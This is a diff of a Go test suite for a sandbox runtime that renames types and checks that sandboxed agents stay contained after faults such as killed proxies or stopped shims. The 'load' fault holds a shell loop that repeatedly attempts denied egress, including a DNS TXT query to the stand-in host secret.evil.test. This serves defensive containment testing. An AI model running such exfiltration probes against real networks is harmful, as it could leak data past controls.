@@ -23,43 +23,43 @@ import (
 	"cofferdam.dev/cofferdam/shim/sandbox"
 )
 
-// besieged is a sandbox whose agent is a probe that serves on a port of its own loopback: it hears us whatever dies outside.
-type besieged struct {
+// witness is a sandbox whose agent is a probe that serves on a port of its own loopback: it hears us whatever dies outside.
+type witness struct {
 	*servant
 	state  sandbox.State
 	engine *ctrd.Daemon // nil: there is none
 }
 
-// besieged fronts, by the names that they have in the table.
-var besiegable = []struct {
+// witness fronts, by the names that they have in the table.
+var witnesses = []struct {
 	name string
-	up   func(t *testing.T, r *ground) besieged
+	up   func(t *testing.T, r *ground) witness
 }{
-	{"shim-v2", besiegedContainer("v2")},
-	{"shim-deb", besiegedContainer("deb")},
-	{"run-root", besiegedRun(func(t testing.TB) person { return newPerson(t, "root", 0) })},
-	{"run-user", besiegedRun(func(t testing.TB) person { return newPerson(t, "user", 4711) })},
+	{"shim-v2", witnessInContainer("v2")},
+	{"shim-deb", witnessInContainer("deb")},
+	{"run-root", witnessInRun(func(t testing.TB) person { return newPerson(t, "root", 0) })},
+	{"run-user", witnessInRun(func(t testing.TB) person { return newPerson(t, "user", 4711) })},
 }
 
-const siegePort = "7070"
+const witnessPort = "7070"
 
-func besiegedContainer(engine string) func(*testing.T, *ground) besieged {
-	return func(t *testing.T, r *ground) besieged {
+func witnessInContainer(engine string) func(*testing.T, *ground) witness {
+	return func(t *testing.T, r *ground) witness {
 		d := Engine(t, engine)
 		box := d.StartContainer(t, ctrd.Container{
-			Image: agentImage, Runtime: ctrd.Cofferdam, Policy: Policy(t, onlyGood), Workspace: Workspace(t), Args: []string{"probe", "serve", siegePort},
+			Image: agentImage, Runtime: ctrd.Cofferdam, Policy: Policy(t, onlyGood), Workspace: Workspace(t), Args: []string{"probe", "serve", witnessPort},
 		})
-		b := besieged{state: inspect(t, d, box), engine: d}
+		b := witness{state: inspect(t, d, box), engine: d}
 		b.servant = call(t, b.state.Agent.PID, r.place("/workspace", suid))
 		return b
 	}
 }
 
-func besiegedRun(who func(testing.TB) person) func(*testing.T, *ground) besieged {
-	return func(t *testing.T, r *ground) besieged {
+func witnessInRun(who func(testing.TB) person) func(*testing.T, *ground) witness {
+	return func(t *testing.T, r *ground) witness {
 		p := who(t)
 		probe := filepath.Join(p.dir, "probe")
-		cmd := p.command(t, "run", "--name", "besieged", "--policy", p.write(t, ".config/cofferdam/policies/lab.yaml", onlyGood), "--read", p.dir, "--", probe, "serve", siegePort)
+		cmd := p.command(t, "run", "--name", "witness", "--policy", p.write(t, ".config/cofferdam/policies/lab.yaml", onlyGood), "--read", p.dir, "--", probe, "serve", witnessPort)
 		cmd.Stderr, cmd.Cancel = &note{t: t}, endsByItself
 		if err := cmd.Start(); err != nil {
 			t.Fatal(err)
@@ -69,9 +69,9 @@ func besiegedRun(who func(testing.TB) person) func(*testing.T, *ground) besieged
 			_ = cmd.Process.Signal(unix.SIGTERM)
 			_ = cmd.Wait()
 		})
-		var b besieged
+		var b witness
 		eventually(t, "the agent runs", func() bool {
-			got := finish(t, p.command(t, "inspect", "--json", "besieged"))
+			got := finish(t, p.command(t, "inspect", "--json", "witness"))
 			return got.Code == 0 && json.Unmarshal([]byte(got.Stdout), &b.state) == nil && b.state.Phase == sandbox.Running
 		})
 		b.servant = call(t, b.state.Agent.PID, r.place(p.workspace(), probe))
@@ -85,7 +85,7 @@ func call(t testing.TB, pid int, place attack.Place) *servant {
 	var c net.Conn
 	eventually(t, "the probe serves", func() bool {
 		return lab.DoIn(fmt.Sprintf("/proc/%d/ns/net", pid), func() (err error) {
-			c, err = net.Dial("tcp", "127.0.0.1:"+siegePort)
+			c, err = net.Dial("tcp", "127.0.0.1:"+witnessPort)
 			return err
 		}) == nil
 	})
@@ -94,7 +94,7 @@ func call(t testing.TB, pid int, place attack.Place) *servant {
 }
 
 // inGate calls fn in the sandbox's GATE, which who made the sandbox has open.
-func (b besieged) inGate(t testing.TB, fn func() error) {
+func (b witness) inGate(t testing.TB, fn func() error) {
 	t.Helper()
 	fds, err := filepath.Glob(fmt.Sprintf("/proc/%d/fd/*", b.state.Shim.PID))
 	if err != nil {
@@ -123,33 +123,33 @@ func (b besieged) inGate(t testing.TB, fn func() error) {
 	t.Fatal("the sandbox's gate is not found")
 }
 
-// faults are what happens to a sandbox before it is attacked. Each is undone when the test ends.
-var faults = []struct {
+// mishaps are what happens to a sandbox before it is attacked. Each is undone when the test ends.
+var mishaps = []struct {
 	name   string
 	engine bool // only where there is one
-	make   func(t *testing.T, b besieged)
+	make   func(t *testing.T, b witness)
 }{
-	{"load", false, func(t *testing.T, b besieged) {
+	{"load", false, func(t *testing.T, b witness) {
 		// Eight processes of the agent's own, which try what is denied as fast as they can.
 		loop := fmt.Sprintf("while :; do %[1]s -patience 50ms tcp 45.67.89.66:443 x; %[1]s -patience 50ms dns secret.evil.test - TXT; %[1]s -patience 50ms udp 9.9.9.9:99 x; done", b.place.SUID)
 		if got := b.try(t, []string{"sh", "for i in 1 2 3 4 5 6 7 8; do (" + loop + ") >/dev/null 2>&1 & done"}); !got.OK {
 			t.Fatal(got)
 		}
 	}},
-	{"proxy-killed", false, func(t *testing.T, b besieged) {
+	{"proxy-killed", false, func(t *testing.T, b witness) {
 		stop(t, b.state.Shim.PID) // it would start the next one
 		signal(t, b.state.Proxy.PID, unix.SIGKILL)
 		eventually(t, "the proxy ends", func() bool { return !b.state.Proxy.Alive() })
 	}},
-	{"proxy-stopped", false, func(t *testing.T, b besieged) { stop(t, b.state.Proxy.PID) }},
-	{"maker-stopped", false, func(t *testing.T, b besieged) { stop(t, b.state.Shim.PID) }},
-	{"maker-killed", true, func(t *testing.T, b besieged) { // without the engine, which would tidy up
+	{"proxy-stopped", false, func(t *testing.T, b witness) { stop(t, b.state.Proxy.PID) }},
+	{"maker-stopped", false, func(t *testing.T, b witness) { stop(t, b.state.Shim.PID) }},
+	{"maker-killed", true, func(t *testing.T, b witness) { // without the engine, which would tidy up
 		haltFor(t, b.engine)
 		signal(t, b.state.Shim.PID, unix.SIGKILL)
 		eventually(t, "the shim ends", func() bool { return !b.state.Shim.Alive() })
 	}},
-	{"engine-killed", true, func(t *testing.T, b besieged) { haltFor(t, b.engine) }},
-	{"gate-open", false, func(t *testing.T, b besieged) {
+	{"engine-killed", true, func(t *testing.T, b witness) { haltFor(t, b.engine) }},
+	{"gate-open", false, func(t *testing.T, b witness) {
 		b.inGate(t, func() error {
 			c, err := nftables.New()
 			if err != nil {
@@ -188,15 +188,15 @@ func haltFor(t *testing.T, d *ctrd.Daemon) {
 	})
 }
 
-// briefly are the faults that make test has time for; make attack has it for all.
+// briefly are the mishaps that make test has time for; make attack has it for all.
 var briefly = []string{"shim-v2/gate-open", "run-user/proxy-killed"}
 
 // TestAttacksAfterFaults makes every attack on a sandbox to which something has happened. What an agent is told may be anything then; what
 // the world sees may not. The controls are those of TestAttacks.
 func TestAttacksAfterFaults(t *testing.T) {
 	Require(t, needShim, needImage)
-	for _, f := range besiegable {
-		for _, fault := range faults {
+	for _, f := range witnesses {
+		for _, fault := range mishaps {
 			name := f.name + "/" + fault.name
 			if *attacksFile == "" && !slices.Contains(briefly, name) || fault.engine && !strings.HasPrefix(f.name, "shim-") {
 				continue
